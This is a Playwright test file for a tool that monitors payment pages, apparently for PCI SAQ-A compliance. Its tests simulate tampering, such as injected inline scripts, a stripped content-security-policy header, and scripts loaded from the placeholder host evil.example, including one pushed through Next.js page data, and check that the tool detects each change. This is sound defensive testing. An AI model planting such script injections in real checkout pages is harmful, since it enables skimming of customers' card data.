import { readFileSync } from "node:fs";
import { join } from "node:path";
import { expect, test } from "@playwright/test";
import {
  lastingName,
  modules,
  purposeOf,
  purposes,
  readInventory,
} from "@/lib/pay-pages/inventory";
import { withInventory } from "@/scripts/pay-pages/table";
import { root } from "@/scripts/setup/command";
import { type Answered, probe } from "./_support/altered";

test("names the purpose of every part of a pay page, and no part that is gone", () => {
  const parts = Object.values(readInventory(root)).flatMap((made) => made.parts);
  expect(parts.filter((part) => purposeOf(part) === undefined)).toEqual([]);
  const named = parts.filter(({ modules: own }) => own === undefined).map(lastingName);
  expect([...new Set(named)].toSorted()).toEqual(Object.keys(purposes).toSorted());
  const held = parts.flatMap(({ modules: own = [] }) => own);
  expect([...new Set(held)].toSorted()).toEqual(Object.keys(modules).toSorted());
});

test("matches the documented inventory: `npm run generate` writes it", () => {
  const page = readFileSync(join(root, "docs/saq-a.md"), "utf8");
  expect(withInventory(page, readInventory(root))).toBe(page);
});

const changesIn = (output: string): string[] =>
  output
    .split("\n")
    .filter((line) => line.startsWith("  CHANGE"))
    .map((line) => line.replace("  CHANGE  ", "").split(",")[0] ?? "");

test("finds the pay pages as the build made them", async () => {
  const { code, output } = await probe();
  expect([changesIn(output), code]).toEqual([[], 0]);
  expect(output).toContain("8 pages, as this build made them.");
});

test("detects an injected script, a missing policy and a changed script", async () => {
  const seen = new Set<string>();
  const alter = (answered: Answered): Answered => {
    const { path, headers, body } = answered;
    seen.add(path.split("/")[1] ?? "");
    if (path.startsWith("/c/")) {
      return { ...answered, body: body.replace("</body>", "<script>take()</script></body>") };
    }
    if (path.startsWith("/pay/")) {
      return { ...answered, headers: { ...headers, "content-security-policy": undefined } };
    }
    if (path.startsWith("/l/")) {
      const [name] = /\/_next\/static\/chunks\/[^"\\]+\.js/.exec(body) ?? [""];
      return { ...answered, body: body.replaceAll(name, "https://evil.example/x.js") };
    }
    if (path.startsWith("/setup/")) {
      const probe =
        '<script>self.__next_f.push([1,"0:[\\"$\\",\\"script\\",null,{\\"src\\":\\"https://evil.example/y.js\\"}]\\n"])</script>';
      return { ...answered, body: body.replace("</body>", `${probe}</body>`) };
    }
    return path.startsWith("/_next/static/chunks/turbopack-")
      ? { ...answered, body: `${body};take()` }
      : answered;
  };
  const { code, output } = await probe(alter);
  expect(code).toBe(1);
  const changes = changesIn(output);
  expect(changes.filter((change) => change.startsWith("added: script inline script"))).toHaveLength(
    1,
  );
  expect(changes).toContain("removed: header content-security-policy");
  expect(changes).toContain("added: script https://evil.example/x.js");
  // Named in the page's data, from which Next loads it.
  expect(changes).toContain("added: script https://evil.example/y.js");
  // Six documents load it.
  const loader = "changed: script /_next/static/chunks/turbopack-";
  expect(changes.filter((change) => change.startsWith(loader))).toHaveLength(6);
  expect([...seen]).toEqual(expect.arrayContaining(["c", "l", "pay", "setup", "i", "t", "bank"]));
});

test("detects an empty page", async () => {
  const alter = (answered: Answered): Answered =>
    answered.path.startsWith("/bank/form") ? { ...answered, body: "", headers: {} } : answered;
  const { code, output } = await probe(alter);
  expect(code).toBe(1);
  expect(changesIn(output)).toContain("removed: script inline script");
});
